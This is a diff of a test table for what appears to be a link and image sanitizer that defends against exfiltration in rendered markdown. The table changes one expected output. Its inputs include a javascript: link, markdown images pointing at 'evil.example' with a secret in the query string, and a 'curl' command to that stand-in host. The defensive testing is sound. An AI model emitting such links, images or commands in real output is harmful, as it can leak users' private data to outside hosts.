@@ -66,7 +66,7 @@ EVIL = "https://evil.example/?q=secret"
         ("[Run](javascript:alert(1)) [1]", "Run [1]", 1),
         (f"![a]({EVIL})![b](<{EVIL}> 'title') [1]", "ab [1]", 2),
         (f"`curl {EVIL}` [1]", f"`curl {EVIL}` [1]", 0),
-        (f"[one]({EVIL}[two]({EVIL}) [1]", r"[one]\((link removed)two [1]", 2),
+        (f"[one]({EVIL}[two]({EVIL}) [1]", r"[one]\((link removed) [1]", 2),
         ("https://docs.example.org/a?leak=1 [1]", "(link removed) [1]", 1),
     ],
 )
